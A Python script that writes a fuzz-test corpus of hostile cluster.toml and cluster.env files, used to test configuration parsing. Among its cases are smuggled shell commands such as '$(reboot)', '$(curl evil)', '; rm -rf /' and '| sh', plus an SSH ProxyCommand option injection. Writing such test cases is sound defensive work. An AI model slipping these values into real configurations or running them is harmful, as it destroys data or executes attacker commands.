"""Write the hostile cluster.toml / cluster.env corpus of tests/fuzz/corpus (run once; the files are
committed). `python tests/fuzz/make_corpus.py` rewrites them; each file's name says what it tries."""

from __future__ import annotations

from pathlib import Path

CORPUS = Path(__file__).parent / "corpus"

HOST = ('[[hosts]]\nrank = {r}\nssh = "spark-{r}"\nfabric_ip = "10.0.0.{ip}"\nfabric_iface = "enp1s0f0np0"\n'
        'ib_hca = ["rocep1s0f0"]\n')
GOOD_TOML = ('[model]\npath = "/srv/models/m"\n[paths]\nengram = "/srv/engram"\ncache = "/srv/cache"\n'
             + "".join(HOST.format(r=r, ip=10 + r) for r in range(4)))
GOOD_ENV = ("NODE_IPS=(10.0.0.10 10.0.0.11 10.0.0.12 10.0.0.13)\nFABRIC_IFACE=enp1s0f0np0\n"
            "IB_HCA=rocep1s0f0\nIB_GID_INDEX=3\nMODEL_PATH=/srv/models/m\nENGRAM_PATH=/srv/engram\n"
            "CACHE_PATH=/srv/cache\n")


def toml_cases() -> dict[str, bytes]:
    g = GOOD_TOML
    one_host = HOST.format(r=0, ip=10)
    cases: dict[str, str | bytes] = {
        "good": g,
        "empty": "",
        "truncated-mid-table": g[: g.index("[[hosts]]") + 5],
        "truncated-mid-string": g[: g.index("/srv/models/m") + 6],
        "truncated-mid-escape": '[model]\npath = "/srv/\\u00',
        "non-utf8": g.encode().replace(b"/srv/models/m", b"/srv/mod\xffels/m"),
        "latin1-bom": b"\xef\xbb\xbf" + g.encode(),
        "utf16": g.encode("utf-16"),
        "nul-byte-raw": g.encode().replace(b"/srv/cache", b"/srv/ca\x00che"),
        "nul-escape": g.replace("/srv/cache", "/srv/ca\\u0000che"),
        "esc-in-path": g.replace("/srv/cache", "/srv/\\u001b[2J\\u001b]52;c;aGk=\\u0007x"),
        "esc-raw": g.replace("/srv/cache", "/srv/\x1b[31mred"),
        "c1-csi-in-path": g.replace("/srv/cache", "/srv/\u009b31mx"),
        "c1-raw-bytes": g.encode().replace(b"/srv/cache", b"/srv/\xc2\x9b2Jx"),
        "del-in-path": g.replace("/srv/cache", "/srv/c\\u007fx"),
        "bidi-rlo-in-path": g.replace("/srv/models/m", "/srv/models/\u202egnp.exe"),
        "bidi-isolates": g.replace("/srv/engram", "/srv/\u2066en\u2069gram"),
        "line-separator": g.replace("/srv/engram", "/srv/en\u2028gram"),
        "zero-width": g.replace("/srv/engram", "/srv/en\u200bgram"),
        "space-in-path": g.replace("/srv/models/m", "/srv/my models/m"),
        "bidi-in-key": g + '[ui.keymap]\n"\u202equit" = "ctrl+q"\n',
        "esc-in-unknown-key": g.replace("[paths]", '"\\u001b[2J" = 1\n[paths]'),
        "esc-in-table-name": g + '["\\u001b]0;pwned\\u0007"]\nx = 1\n',
        "c1-in-iface": g.replace('"enp1s0f0np0"', '"eth\u009b0"', 1),
        "option-iface": g.replace('"enp1s0f0np0"', '"--help"', 1),
        "option-hca": g.replace('["rocep1s0f0"]', '["-x"]', 1),
        "colon-iface": g.replace('"enp1s0f0np0"', '"eth0:1"', 1),
        "root-model-path": g.replace("/srv/models/m", "/"),
        "usr-cache": g.replace('"/srv/cache"', '"/usr"'),
        "proc-engram": g.replace("/srv/engram", "/proc/self/root"),
        "equal-paths": g.replace("/srv/engram", "/srv/models/m"),
        "nested-paths": g.replace('"/srv/cache"', '"/srv/models"'),
        "relative-path": g.replace("/srv/cache", "srv/cache"),
        "duplicate-key": g.replace('[paths]\n', '[paths]\ncache = "/a"\n'),
        "duplicate-table": g + '[model]\npath = "/b"\n',
        "duplicate-rank": g.replace("rank = 3", "rank = 0"),
        "wrong-types": g.replace('path = "/srv/models/m"', "path = 42") + "[serving]\ngmu = \"high\"\n",
        "bool-for-int": g.replace("rank = 1", "rank = true"),
        "array-for-string": g.replace('"spark-2"', '["spark-2"]'),
        "table-for-array": g.replace('ib_hca = ["rocep1s0f0"]', "ib_hca = {a = 1}", 1),
        "hosts-as-table": "[hosts]\nrank = 0\n",
        "hosts-as-string": 'hosts = "all"\n',
        "datetime-values": g.replace('path = "/srv/models/m"', "path = 1979-05-27T07:32:00Z"),
        "float-specials": g + "[serving]\ngmu = nan\nmaxlen = inf\n",
        "huge-int": g + "[serving]\nmaxlen = " + "9" * 4000 + "\n",
        "too-many-digits": g + "[serving]\nmaxlen = " + "9" * 5000 + "\n",
        "int-overflow-64": g + "[serving]\nmaxlen = 9223372036854775808\n",
        "huge-string": g.replace("/srv/cache", "/srv/" + "c" * 200_000),
        "huge-key": g + "[serving]\n" + "k" * 100_000 + " = 1\n",
        "many-hosts": GOOD_TOML.split("[[hosts]]")[0] + "".join(
            HOST.format(r=r, ip=r % 250).replace("10.0.0.", f"10.{r // 250}.0.") for r in range(2000)),
        "deep-nested-tables": g + "[" + ".".join(f"t{i}" for i in range(500)) + "]\nx = 1\n",
        "deep-nested-arrays": g.replace('ib_hca = ["rocep1s0f0"]', "ib_hca = " + "[" * 5000 + "]" * 5000, 1),
        "deep-inline-tables": g + "x = " + "{a = " * 3000 + "1" + "}" * 3000 + "\n",
        "only-hosts-header": "[[hosts]]\n",
        "crlf": g.replace("\n", "\r\n"),
        "lone-cr": g.replace("\n", "\r", 3),
        "shell-meta-path": g.replace("/srv/cache", "/srv/$(reboot)`id`"),
        "dotdot-path": g.replace("/srv/cache", "/srv/../etc"),
        "long-component": g.replace("/srv/cache", "/srv/" + "x" * 300),
        "surrogate-escape": g.replace("/srv/cache", "/srv/\\ud800"),
        "private-use": g.replace("/srv/cache", "/srv/\ue000"),
        "single-host-bidi-ssh": one_host.replace("spark-0", "spark\u202e-0"),
        "ssh-option": g.replace('"spark-0"', '"-oProxyCommand=sh"'),
        "known-hosts-esc": g + '[ssh]\nknown_hosts = "/tmp/\\u001b[2Jkh"\n',
        "keymap-esc": g + '[ui.keymap]\nquit = "\\u001b[2J"\n',
    }
    return {k: (v if isinstance(v, bytes) else v.encode("utf-8", "surrogatepass")) for k, v in cases.items()}


def env_cases() -> dict[str, bytes]:
    g = GOOD_ENV
    cases: dict[str, str | bytes] = {
        "good": g,
        "empty": "",
        "truncated-array": g[: g.index(")")],
        "truncated-quote": g + "SEQS='8",
        "non-utf8": g.encode().replace(b"/srv/cache", b"/srv/\xff\xfe"),
        "nul-byte": g.encode().replace(b"/srv/cache", b"/srv/ca\x00che"),
        "command-substitution": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=$(reboot)"),
        "backticks": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=`reboot`"),
        "backticks-double-quoted": g.replace("MODEL_PATH=/srv/models/m", 'MODEL_PATH="/srv/`id`"'),
        "subst-in-array": g.replace("10.0.0.13", "$(curl evil)"),
        "arith": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=$((1+2))"),
        "param-expansion": g.replace("/srv/cache", "${HOME}/cache"),
        "single-quoted-subst": g.replace("/srv/cache", "'/srv/$(id)'"),
        "semicolon": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=3; rm -rf /"),
        "pipe": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=3 | sh"),
        "source": ". /etc/profile\n" + g,
        "function": "f() { reboot; }\n" + g,
        "heredoc": g + "cat <<EOF\nx\nEOF\n",
        "option-iface": g.replace("FABRIC_IFACE=enp1s0f0np0", "FABRIC_IFACE=--help"),
        "option-hca": g.replace("IB_HCA=rocep1s0f0", "IB_HCA=-x"),
        "esc-in-path": g.replace("/srv/cache", "'/srv/\x1b[2J\x1b]52;c;aGk=\x07'"),
        "c1-in-path": g.replace("/srv/cache", "'/srv/\u009b31m'"),
        "bidi-in-path": g.replace("/srv/models/m", "'/srv/\u202egnp'"),
        "line-separator": g.replace("/srv/engram", "'/srv/\u2028x'"),
        "space-in-path": g.replace("/srv/models/m", "'/srv/my models'"),
        "root-paths": g.replace("/srv/models/m", "/").replace("/srv/engram", "/"),
        "nested-paths": g.replace("CACHE_PATH=/srv/cache", "CACHE_PATH=/srv/models/m/cache"),
        "duplicate-keys": g + "IB_HCA=mlx5_0\n",
        "unknown-var": g + "HF_TOKEN=hf_secret\n",
        "wrong-types": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=three") + "GMU=lots\n",
        "string-node-ips": g.replace("NODE_IPS=(10.0.0.10 10.0.0.11 10.0.0.12 10.0.0.13)",
                                     "NODE_IPS='10.0.0.10 10.0.0.11'"),
        "huge-value": g.replace("/srv/cache", "/srv/" + "c" * 300_000),
        "huge-array": g.replace("10.0.0.13", " ".join(f"10.1.{i // 250}.{i % 250}" for i in range(20_000))),
        "crlf": g.replace("\n", "\r\n"),
        "esc-in-comment": "# \x1b]0;title\x07\n" + g,
        "esc-unquoted": g.replace("IB_HCA=rocep1s0f0", "IB_HCA=roce\x1bp"),
        "c1-unquoted": g.replace("IB_HCA=rocep1s0f0", "IB_HCA=roce\u009bp"),
        "continuation": g.replace("IB_GID_INDEX=3", "IB_GID_INDEX=\\\n3"),
        "nested-arrays": g.replace("(10.0.0.10", "((10.0.0.10)"),
        "deep-parens": "X=" + "(" * 5000 + "\n" + g,
    }
    return {k: (v if isinstance(v, bytes) else v.encode()) for k, v in cases.items()}


COMMITTED_MAX = 32 << 10
"""Cases larger than this (huge values, thousands of hosts) are generated by the test, not committed."""


def all_cases() -> dict[str, bytes]:
    """File name -> content of every case, committed or not."""
    return {**{f"{k}.toml": v for k, v in toml_cases().items()},
            **{f"{k}.env": v for k, v in env_cases().items()}}


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.iterdir():
        old.unlink()
    for name, data in all_cases().items():
        if len(data) <= COMMITTED_MAX:
            (CORPUS / name).write_bytes(data)


if __name__ == "__main__":
    main()
